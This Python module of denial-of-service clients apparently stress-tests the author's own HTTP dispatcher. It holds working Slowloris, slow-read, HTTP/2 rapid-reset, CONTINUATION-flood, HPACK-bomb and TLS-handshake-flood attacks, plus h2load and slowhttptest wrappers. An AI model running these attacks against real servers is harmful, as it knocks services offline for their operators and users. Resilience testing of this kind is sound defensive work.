"""
Hostile clients. Each attack is a coroutine that runs until it is cancelled. It opens connections again when they are closed, and counts
what happened to them. The attacks write bytes to sockets, because no client library sends such data.
"""

import asyncio
import collections
import contextlib
import ctypes
import functools
import itertools
import os
import pathlib
import random
import signal
import socket
import ssl
import struct
import time

import processes

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
IMAGE = "/public/silly-test-image.jpg"
FILE = "/read"
PAUSE = 0.2  # Seconds before a connection is opened again.

Target = collections.namedtuple("Target", "host port tls workers admin")
# All attacks by name, and the names of those with complete requests, for which workers may be launched.
ATTACKS = {}
WHOLE_REQUESTS = {"slow-readers-http1", "slow-readers-http2", "many-trailers", "flood", "slowhttptest"}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """Encodes an HPACK string of up to 16 KiB, without Huffman coding."""
    value = value.encode() if isinstance(value, str) else value
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest = len(value) - 127
    return bytes([127, rest & 127 | 128, rest >> 7]) + value if rest > 127 else bytes([127, rest]) + value


def field(name, value):
    """Encodes a literal header without indexing (RFC 7541 section 6.2.2)."""
    return b"\x00" + text(name) + text(value)


def head(method, path, *more):
    """A request's header block: scheme http, authority attacked.example."""
    block = field(":method", method) + b"\x86" + field(":path", path) + field(":authority", "attacked.example")
    return block + b"".join(field(name, value) for name, value in more)


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", key, value) for key, value in pairs))


def window_update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def post(path, length):
    return f"POST {path} HTTP/1.1\r\nhost: attacked.example\r\ncontent-length: {length}\r\n\r\n".encode()


def get(path):
    return f"GET {path} HTTP/1.1\r\nhost: attacked.example\r\n\r\n".encode()


class Closed(Exception):
    pass


class Connection:
    """One socket. It drops what it reads. A small `receive_buffer` makes a client that can receive little. `source` is its address."""

    def __init__(self, target_host, port, counts, receive_buffer=None, source=None):
        self.address = (target_host, port)
        self.counts = counts
        self.receive_buffer = receive_buffer
        self.source = source

    async def __aenter__(self):
        self.socket = socket.socket()
        self.socket.setblocking(False)
        if self.receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
        if self.source:
            self.socket.bind((self.source, 0))
        loop = asyncio.get_running_loop()
        try:
            await asyncio.wait_for(loop.sock_connect(self.socket, self.address), 10)
        except (OSError, asyncio.TimeoutError) as failure:
            self.socket.close()
            raise Closed() from failure
        self.counts["connections"] += 1
        return self

    async def __aexit__(self, *_):
        self.socket.close()

    async def send(self, data):
        try:
            await asyncio.get_running_loop().sock_sendall(self.socket, data)
        except OSError as failure:
            raise Closed() from failure
        self.counts["bytes sent"] += len(data)

    async def read(self):
        """Returns some bytes as soon as there are any."""
        try:
            data = await asyncio.get_running_loop().sock_recv(self.socket, 65536)
        except OSError as failure:
            raise Closed() from failure
        if not data:
            raise Closed()
        return data

    async def drain(self):
        """Reads until the other side closes."""
        while True:
            data = await self.read()
            if data.startswith(b"HTTP/1.1 ") and data[9:12].isdigit():
                self.counts["status " + data[9:12].decode()] += 1

    async def trickle(self, piece, seconds):
        """Sends a piece at intervals, and reads, until the other side closes."""
        reading = asyncio.ensure_future(self.drain())
        try:
            while not reading.done():
                await asyncio.wait({reading}, timeout=seconds)
                if not reading.done():
                    await self.send(piece)
            await reading
        finally:
            reading.cancel()

    async def never_read(self):
        """Waits until the other side closes, and reads nothing."""
        try:
            while not self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                self.socket.getpeername()
                await asyncio.sleep(1)
        except OSError as failure:
            raise Closed() from failure
        raise Closed()


async def again(counts, number, once):
    """Runs `once` on this number of connections concurrently, and again each time one of them is closed."""

    async def keep():
        while True:
            try:
                await once()
                counts["ended"] += 1
            except Closed:
                counts["closed by the dispatcher"] += 1
            await asyncio.sleep(PAUSE)

    await asyncio.gather(*(keep() for _ in range(number)))


def connections(number, port="port", **options):
    """
    Makes an attack of a coroutine that attacks on one connection. The attack has this number of connections at the same time, to this port of
    the target, and opens each again when it is closed.
    """

    def attack_of(on_one):
        @attack
        @functools.wraps(on_one)
        async def on_all(target, counts):
            async def once():
                async with Connection(target.host, getattr(target, port), counts, **options) as c:
                    await on_one(c)

            await again(counts, number, once)

        return on_all

    return attack_of


def sends(name, number, first, then=Connection.drain, **options):
    """Adds an attack by connections that send this first, and then read, or do something else, until they are closed."""

    async def on_one(c):
        await c.send(first)
        await then(c)

    on_one.__name__ = name
    connections(number, **options)(on_one)


def lines(number, size):
    return b"".join(b"x-%d: %s\r\n" % (i, b"a" * size) for i in range(number))


# HTTP/1.1.

BEGUN = b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n"
CHUNKED = b"POST /echo HTTP/1.1\r\nhost: attacked.example\r\ntransfer-encoding: chunked\r\n\r\n"
# Headers that never end, 12 bytes a second (Slowloris).
sends("slow-heads", 500, BEGUN, lambda c: c.trickle(b"x-more: 1\r\n", 1))
# The headers of a POST and no byte of its body.
sends("half-open-http1", 500, post("/echo", 1_000_000))
# A POST whose body arrives at one byte a second.
sends("slow-bodies-http1", 500, post("/echo", 1_000_000), lambda c: c.trickle(b"x", 1))
# Requests for 20 images, of which nothing is read.
sends("slow-readers-http1", 300, get(IMAGE) * 20, Connection.never_read, receive_buffer=2048)
sends("idle-connections", 3000, b"")
# 60 KiB of headers that never end.
sends("large-heads", 500, BEGUN + lines(120, 480))
# A POST of chunks of one byte with an extension of 60, without end, whose response is read.
sends("tiny-chunks", 50, CHUNKED, lambda c: c.trickle((b"1;x=" + b"a" * 58 + b"\r\nb\r\n") * 200, 0))
# One POST after the other of one byte and 190 trailers.
sends("many-trailers", 50, b"", lambda c: c.trickle(CHUNKED + b"1\r\nb\r\n0\r\n" + lines(190, 10) + b"\r\n", 0))


# HTTP/2.


def http2(name, number, sent, *first_settings, read=True, receive_buffer=None):
    """
    Adds an attack by connections that have sent their preface and are read from, if not otherwise said, until they are closed. At the same
    time, each sends the bytes that `sent` returns, and pauses for the seconds between them.
    """

    async def act(c):
        for each in sent():
            await (c.send(each) if isinstance(each, bytes) else asyncio.sleep(each))

    async def on_one(c):
        await c.send(PREFACE + settings(*first_settings) + frame(SETTINGS, ACK, 0))
        reading, acting = asyncio.ensure_future(c.drain() if read else c.never_read()), asyncio.ensure_future(act(c))
        try:
            done, _ = await asyncio.wait({reading, acting}, return_when=asyncio.FIRST_COMPLETED)
            for task in done:
                await task
            await reading
        finally:
            reading.cancel()
            acting.cancel()

    on_one.__name__ = name
    connections(number, receive_buffer=receive_buffer)(on_one)


def streams(frames, number, first=1):
    """@return what `frames` returns for each of this number of streams"""
    return b"".join(map(frames, range(first, first + 2 * number, 2)))


def on_hundred(begin, seconds, go_on):
    """100 streams that begin, and then go on at intervals."""
    yield streams(begin, 100)
    while True:
        yield seconds
        yield from map(go_on, range(1, 200, 2))


def on_new(number, seconds, frames):
    """This number of new streams at intervals, without end."""
    for first in range(1, 1 << 30, 2 * number):
        yield streams(frames, number, first)
        yield seconds


def endlessly(first, next_one):
    yield first
    while True:
        yield next_one()
        yield 0.01


def begun(stream, method, path, *more, end=0):
    return frame(HEADERS, END_HEADERS | end, stream, head(method, path, *more))


def got(path):
    return lambda stream: begun(stream, "GET", path, end=END_STREAM)


def posted(stream):
    return begun(stream, "POST", "/echo")


def filled(stream):
    return begun(stream, "POST", "/echo", ("content-length", "10000000")) + frame(DATA, 0, stream, bytes(16_000)) * 4


NO_WINDOW = INITIAL_WINDOW_SIZE, 0
CANCEL = struct.pack(">I", 8)
FILLER = frame(PING, ACK, 0, bytes(8)) * 3800
TUNNEL = field(":method", "CONNECT") + field(":protocol", "websocket") + b"\x86" + field(":path", "/ws") + field(":authority", "attacked.example")
BOMB = b"\x40" + text("x-bomb") + text("b" * 3900) + head("GET", "/ping") + b"\xbe" * 4000
CONTINUED = b"".join(frame(CONTINUATION, 0, 1, b"" if i % 2 else field("x-more", "1")) for i in range(100))
WITHOUT_EFFECT = [frame(PING, 0, 0, bytes(8)), settings((INITIAL_WINDOW_SIZE, 65_535)), frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
                  window_update(0, 1), frame(DATA, 0, 1)]
POSTS_OF_NEXT = itertools.cycle([16, 100])  # The window of a connection is 1 MiB.

# The headers of 1,000 POSTs and no byte of a body.
http2("half-open-http2", 10, lambda: [streams(posted, 1000)])
# 100 POSTs, whose bodies arrive at one byte a second.
http2("slow-bodies-http2", 10, lambda: on_hundred(posted, 1, lambda stream: frame(DATA, 0, stream, b"x")))
# Requests for 100 images, whose windows are opened by one byte every 10 s.
http2("slow-readers-http2", 10, lambda: on_hundred(got(IMAGE), 10, lambda stream: window_update(stream, 1)), NO_WINDOW)
# Windows full of bodies to be echoed, and no echo is read. Every second connection exceeds its windows.
http2("full-windows", 300, lambda: [streams(filled, next(POSTS_OF_NEXT))], NO_WINDOW, receive_buffer=4096)
# 100 POSTs. Only 600 of every 64 KiB are body; the rest are frames without effect.
http2("small-parts", 10, lambda: on_hundred(posted, 0.01, lambda stream: frame(DATA, 0, stream, bytes(600)) + FILLER))
# Requests that are reset immediately (CVE-2023-44487).
http2("rapid-reset", 10, lambda: on_new(100, 0.01, lambda stream: got("/ping")(stream) + frame(RST_STREAM, 0, stream, CANCEL)))
# Requests that the server must reset, because of WINDOW_UPDATEs of 0 (CVE-2025-8671).
http2("made-you-reset", 10, lambda: on_new(100, 0.01, lambda stream: posted(stream) + window_update(stream, 0)))
# Tunnels that the server must reset, because of trailers on an extended CONNECT.
http2("tunnel-trailers", 10, lambda: on_new(50, 0.01, lambda stream: frame(HEADERS, END_HEADERS, stream, TUNNEL) + frame(
    HEADERS, END_HEADERS | END_STREAM, stream, field("x-trailer", "1"))))
# A header block that never ends (CVE-2024-27983 and others).
http2("continuation-flood", 10, lambda: endlessly(frame(HEADERS, 0, 1, head("GET", "/ping")), lambda: CONTINUED))
# Small header blocks that decode to megabytes: they repeat one entry of HPACK's dynamic table.
http2("header-bomb", 10, lambda: on_new(1, 0.005, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, BOMB)))
# PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty DATA without end, and nothing is read.
http2("frame-floods", 10, lambda: endlessly(posted(1), lambda: random.choice(WITHOUT_EFFECT) * 500), read=False, receive_buffer=4096)


# Clients that hold up worker streams, at a rate that no limit forbids.


async def held_responses(target, counts, rate, size, client):
    """150 requests for a file, on two connections. Each stream's window is opened by `rate` bytes a second. The demo sets the size."""
    loop = asyncio.get_running_loop()

    async def once():
        async with Connection(target.host, target.port, counts, source=f"127.0.1.{client}") as c:
            await c.send(PREFACE + settings((INITIAL_WINDOW_SIZE, 1)) + frame(SETTINGS, ACK, 0) + window_update(0, 1 << 30))
            live, numbers, data = set(), itertools.count(1, 2), b""
            while True:
                opened = [next(numbers) for _ in range(75 - len(live))]
                live.update(opened)
                await c.send(b"".join(map(got(FILE), opened)))
                second = loop.time() + 1
                while loop.time() < second:
                    try:
                        data += await asyncio.wait_for(c.read(), second - loop.time())
                    except asyncio.TimeoutError:
                        break
                    while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                        kind, flags, stream = data[3], data[4], int.from_bytes(data[5:9], "big")
                        data = data[9 + int.from_bytes(data[:3], "big"):]
                        if stream in live and (kind == RST_STREAM or kind in (HEADERS, DATA) and flags & END_STREAM):
                            live.remove(stream)
                            counts["resets" if kind == RST_STREAM else "responses"] += 1
                await c.send(b"".join(window_update(stream, rate) for stream in live))

    await again(counts, 2, once)


async def held_uploads(target, counts, rate, size, client):
    """150 connections, each with a POST of `size` bytes, which arrives at `rate` bytes a second."""

    async def once():
        async with Connection(target.host, target.port, counts, source=f"127.0.1.{client}") as c:
            await c.send(post("/echo", size))
            await c.trickle(bytes(rate // 2), 0.5)

    await again(counts, 150, once)


# TLS.


def client_hello():
    """The first message of a TLS handshake. Sent again, it costs the server a new key exchange and a signature, and the client nothing."""
    out = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname="attacked.example").do_handshake()
    return out.read()


@attack
async def handshakes(target, counts):
    """100 clients that each begin a TLS handshake, wait for the answer, close the connection, and begin again without a pause."""
    hello = client_hello()

    async def once():
        while True:
            async with Connection(target.host, target.tls, counts) as c:
                # A reset frees the client's port.
                c.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                await c.send(hello)
                await c.read()
                counts["answers"] += 1

    await again(counts, 100, once)


# The other ports.


@connections(200, "workers")
async def worker_port(c):
    """200 connections to the worker port that send random bytes, a request without a token, or nothing."""
    kind = random.randrange(3)
    if kind == 0:
        await c.send(os.urandom(1000))
    elif kind == 1:
        await c.send(PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, head("POST", "/control")))
    await c.drain()


# Requests that never end.
sends("admin-port", 50, b"GET /health HTTP/1.1\r\nhost: 127.0.0.1\r\n", lambda c: c.trickle(b"x: 1\r\n", 2), port="admin")


# Programs of others.


async def tool(command, counts):
    """Runs a program repeatedly, and drops its output."""
    while True:
        child = await asyncio.create_subprocess_exec(
            *map(str, command), stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL,
            preexec_fn=lambda: ctypes.CDLL(None).prctl(1, signal.SIGKILL))  # The program ends with this process.
        counts["runs"] += 1
        await child.wait()
        await asyncio.sleep(PAUSE)


@attack
async def flood(target, counts):
    """h2load: as many requests as the dispatcher answers, on 20 connections with 20 requests in flight each."""
    await tool([processes.tool("h2load"), "-c", 20, "-m", 20, "-n", 100_000, f"http://{target.host}:{target.port}/ping"], counts)


@attack
async def slowhttptest(target, counts):
    """slowhttptest: slow headers, slow bodies and slow reading, 300 connections each."""
    url = f"http://{target.host}:{target.port}"
    common = ["-c", 300, "-r", 100, "-l", 3600, "-i", 2]
    program = processes.tool("slowhttptest")
    await asyncio.gather(
        tool([program, "-H", *common, "-u", url + "/ping"], counts),
        tool([program, "-B", *common, "-t", "POST", "-u", url + "/echo"], counts),
        tool([program, "-X", *common, "-w", 512, "-y", 1024, "-n", 5, "-z", 32, "-k", 3, "-u", url + IMAGE], counts))


# Attacks that need a rate and a size, both in bytes, and the number of the client: one that has attacked before is remembered.
HOLDING = {"held-responses": held_responses, "held-uploads": held_uploads}


def step_back():
    """
    Sets the lowest priority, because real attackers run on other machines. Linux compares priorities only within a session, so the
    session gets the lowest priority, too.
    """
    ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # This process ends with the script.
    os.nice(19)
    os.setsid()
    for _ in range(20):
        try:
            pathlib.Path("/proc/self/autogroup").write_text("19")
            return
        except BlockingIOError:
            time.sleep(0.1 + random.random())  # Without root, Linux permits ten such writes per second, for all processes together.
        except OSError:
            return  # This kernel has no session priorities.


def run(name, target, counts_out):
    """
    Runs an attack in a separate process until it is ended. Puts counts into the queue `counts_out` every second. The names of HOLDING
    are followed by their numbers: `held-uploads:260:2000000:1`.
    """
    step_back()
    counts = collections.Counter()
    kind, *numbers = name.split(":")
    begin = HOLDING[kind] if numbers else ATTACKS[kind]

    async def main():
        task = asyncio.ensure_future(begin(target, counts, *map(int, numbers)))
        while not task.done():
            await asyncio.wait({task}, timeout=1)
            counts_out.put((name, dict(counts)))
        await task

    asyncio.run(main())
